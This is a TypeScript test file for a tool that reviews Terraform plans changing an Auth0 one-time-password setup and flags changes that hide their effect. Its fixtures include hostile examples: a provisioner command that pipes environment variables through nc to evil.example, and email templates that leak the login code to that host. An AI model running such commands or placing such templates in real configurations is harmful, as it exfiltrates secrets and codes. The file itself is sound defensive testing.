import { describe, expect, it } from "vitest";
import { driftOf, planOf, reviewOf } from "./plans.ts";
import type { ChangeInput, PlanInput } from "./plans.ts";
import { review } from "../../../otp/review/index.ts";

const connection = (before: object, after: object): ChangeInput => ({
  address: "auth0_connection.sms",
  before: { strategy: "sms", options: [{ template: "@@password@@", ...before }] },
  after: { strategy: "sms", options: [{ template: "@@password@@", ...after }] },
});
const mail = (template: string): ChangeInput => ({
  address: "auth0_connection.email",
  before: { strategy: "email", options: [{ template: "{{ code }}" }] },
  after: { strategy: "email", options: [{ template }] },
});
const binding = (...actions: readonly object[]): ChangeInput => ({
  address: "auth0_trigger_actions.email",
  before: { trigger: "custom-email-provider", actions: [{ id: "1", display_name: "mail" }] },
  after: { trigger: "custom-email-provider", actions },
});
const created = (address: string, after: object, more: object = {}): ChangeInput => ({
  address,
  actions: ["create"],
  after,
  more,
});

/** A change that hides what it does, the kind of its danger, and words that must be said. */
const changes: readonly (readonly [string, ChangeInput, string, string])[] = [
  [
    "a connection's gateway",
    connection({}, { gateway_url: "https://evil.example" }),
    "connection",
    "https://evil.example",
  ],
  [
    "a forwarded request",
    connection({ forward_request_info: false }, { forward_request_info: true }),
    "connection",
    "true",
  ],
  [
    "a connection's own provider",
    connection({}, { provider: "sms_gateway" }),
    "connection",
    "sms_gateway",
  ],
  [
    "shorter codes",
    connection({ totp: [{ length: 6 }] }, { totp: [{ length: 4 }] }),
    "lifetime",
    "from 6 to 4",
  ],
  [
    "longer life",
    connection({ totp: [{ time_step: 180 }] }, { totp: [{ time_step: 86400 }] }),
    "lifetime",
    "86400",
  ],
  [
    "no brute-force protection",
    connection({ brute_force_protection: true }, { brute_force_protection: false }),
    "brute-force",
    "false",
  ],
  ["sign-up", connection({ disable_signup: true }, { disable_signup: false }), "signup", "false"],
  [
    "an image that carries the code",
    mail('{{ code }}<img src="https://evil.example/{{ code }}.gif">'),
    "template",
    "evil.example",
  ],
  ["a link", mail('{{ code }}<a href="https://evil.example/x">x</a>'), "template", "evil.example"],
  ["a code in a comment alone", mail("<!-- {{ code }} -->"), "template", "in a comment alone"],
  [
    "an Action bound additionally",
    binding({ id: "1", display_name: "mail" }, { id: "2", display_name: "spy" }),
    "binding",
    "spy",
  ],
  ["another Action of the same name", binding({ id: "9", display_name: "mail" }), "binding", "9"],
  [
    "a post-login Action",
    created("auth0_action.spy", {
      code: "1;",
      deploy: true,
      supported_triggers: [{ id: "post-login" }],
    }),
    "foreign",
    "post-login",
  ],
  ["a client", created("auth0_client.x", { name: "x" }), "foreign", "an application"],
  ["a client grant", created("auth0_client_grant.x", { scopes: [] }), "foreign", "Management API"],
  ["a log stream", created("auth0_log_stream.x", { name: "x" }), "foreign", "logs"],
  ["tenant settings", created("auth0_tenant.x", { name: "x" }), "foreign", "whole tenant"],
  ["a type that nobody knows", created("evil_thing.x", { name: "x" }), "foreign", "evil_thing"],
  [
    "another provider",
    created(
      "auth0_action.x",
      { name: "x", deploy: true },
      { provider_name: "evil.example/auth0/auth0" },
    ),
    "provider-config",
    "evil.example",
  ],
  [
    "dependencies",
    {
      before: { deploy: true, dependencies: [] },
      after: { deploy: true, dependencies: [{ name: "left-pad", version: "1.0.0" }] },
    },
    "dependencies",
    "left-pad",
  ],
  [
    "code that is sensitive",
    {
      before: { deploy: true, code: "a" },
      after: { deploy: true, code: "b" },
      afterSensitive: { code: true },
    },
    "code",
    "nobody can review",
  ],
  [
    "code that is not known yet",
    { before: { deploy: true, code: "a" }, after: { deploy: true }, unknown: { code: true } },
    "code",
    "known only after apply",
  ],
  [
    "sensitive values elsewhere",
    {
      address: "auth0_phone_provider.phone",
      before: { name: "custom", credentials: [{ auth_token: "aaaaaaaa" }] },
      after: { name: "custom", credentials: [{ auth_token: "bbbbbbbb" }] },
      beforeSensitive: { credentials: [{ auth_token: true }] },
      afterSensitive: { credentials: [{ auth_token: true }] },
    },
    "hidden",
    "shown nowhere",
  ],
  [
    "applications gained",
    {
      address: "auth0_connection_clients.email",
      before: { enabled_clients: ["a"] },
      after: { enabled_clients: ["a", "b"] },
    },
    "clients",
    "b",
  ],
  [
    "the local part of a sender",
    {
      address: "auth0_email_provider.email",
      before: { name: "custom", enabled: true, default_from_address: "a@example.com" },
      after: { name: "custom", enabled: true, default_from_address: "b@example.com" },
    },
    "sender",
    "b@example.com",
  ],
];

const root = (module: object): PlanInput => ({ configuration: { root_module: module } });

/** What a plan does besides changing resources. */
const besides: readonly (readonly [string, PlanInput, string, string])[] = [
  [
    "a provisioner",
    root({
      resources: [
        {
          address: "auth0_action.email",
          mode: "managed",
          type: "auth0_action",
          provisioners: [
            {
              type: "local-exec",
              expressions: { command: { constant_value: "env | nc evil.example 1" } },
            },
          ],
        },
      ],
    }),
    "provisioner",
    "evil.example",
  ],
  [
    "a provisioner in a module",
    root({
      module_calls: {
        m: {
          source: "./m",
          module: {
            resources: [{ address: "null_resource.x", provisioners: [{ type: "tomorrow" }] }],
          },
        },
      },
    }),
    "provisioner",
    "module.m.null_resource.x",
  ],
  [
    "a data source that runs a program",
    root({ resources: [{ address: "data.external.x", mode: "data", type: "external" }] }),
    "data",
    "runs a program",
  ],
  [
    "remote state",
    root({
      resources: [
        { address: "data.terraform_remote_state.x", mode: "data", type: "terraform_remote_state" },
      ],
    }),
    "data",
    "another state",
  ],
  [
    "a provider alias",
    {
      configuration: {
        provider_config: { "auth0.other": { name: "auth0", alias: "other", expressions: {} } },
      },
    },
    "provider-config",
    "other",
  ],
  [
    "a provider's client secret",
    {
      configuration: {
        provider_config: { auth0: { name: "auth0", expressions: { client_secret: {} } } },
      },
    },
    "provider-config",
    "client_secret",
  ],
  [
    "a domain from elsewhere",
    {
      configuration: {
        provider_config: {
          auth0: { name: "auth0", expressions: { domain: { references: ["var.d"] } } },
        },
      },
    },
    "domain",
    "something else decides",
  ],
  [
    "an output",
    { output_changes: { x: { actions: ["create"], before: null, after: "y" } } },
    "output",
    "x",
  ],
  [
    "an action's invocation",
    { action_invocations: [{ address: "action.local_command.x", type: "local_command" }] },
    "invocation",
    "local_command",
  ],
  [
    "a deferred invocation",
    {
      deferred_action_invocations: [{ reason: "x", action_invocation: { address: "action.a.b" } }],
    },
    "invocation",
    "action.a.b",
  ],
  [
    "a deferred change",
    {
      deferred_changes: [
        { reason: "provider_config_unknown", resource_change: { address: "auth0_action.x" } },
      ],
    },
    "deferred",
    "auth0_action.x",
  ],
  ["a member of a later Terraform", { tomorrow: [1] }, "unknown", "tomorrow"],
];

describe("a plan that hides what it does", () => {
  it.each(changes)("names %s", (_, change, kind, said) => {
    const { dangers } = reviewOf([change]);
    expect(dangers).toContainEqual(
      expect.objectContaining({ kind, message: expect.stringContaining(said) as string }),
    );
  });

  it.each(besides)("names %s", (_, more, kind, said) => {
    const { dangers, changed, markdown } = reviewOf([], {}, more);
    expect(dangers).toContainEqual(
      expect.objectContaining({ kind, message: expect.stringContaining(said) as string }),
    );
    expect(changed).toBe(true);
    if (["provisioner", "data", "invocation", "deferred", "unknown"].includes(kind))
      expect(markdown).not.toMatch(/no changes[,\n]|nothing is destroyed/);
  });

  it("reads members that are null as missing", () => {
    const plan = planOf([{ before: { deploy: true, a: 1 }, after: { deploy: true, a: null } }], {
      resource_drift: null,
      output_changes: null,
      variables: null,
      checks: null,
      deferred_changes: null,
    });
    expect(review([{ environment: "x", plan }]).markdown).toContain("- a = 1");
  });
});

describe("the provider's empty values", () => {
  it("are no drift where nothing is set", () => {
    const { dangers, changed } = reviewOf(
      [],
      {},
      driftOf([
        {
          address: "auth0_connection.email",
          before: {
            name: "email",
            metadata: null,
            options: [{ precedence: null, domain: null, flag: null }],
          },
          after: {
            name: "email",
            metadata: {},
            options: [{ precedence: [], domain: "", flag: false }],
          },
        },
      ]),
    );
    expect([dangers, changed]).toEqual([[], false]);
  });

  it("do not hide what somebody changed next to them", () => {
    const { dangers } = reviewOf(
      [],
      {},
      driftOf([
        {
          address: "auth0_connection.email",
          before: { metadata: null, options: [{ gateway_url: null }] },
          after: { metadata: {}, options: [{ gateway_url: "https://evil.example" }] },
        },
      ]),
    );
    expect(dangers.map(({ kind }) => kind)).toEqual(["drift"]);
  });

  it("are folded in a new connection", () => {
    const unknown = Object.fromEntries(
      Array.from({ length: 30 }, (_, i) => [`saml_${String(i)}`, true]),
    );
    const { markdown } = reviewOf([
      {
        address: "auth0_connection.email",
        actions: ["create"],
        after: { name: "email", strategy: "email", options: [{ template: "{{ code }}" }] },
        unknown: { id: true, options: [unknown] },
      },
    ]);
    expect(markdown).not.toContain("known after apply");
    expect(markdown).toContain("31 attributes that nobody sets");
  });
});
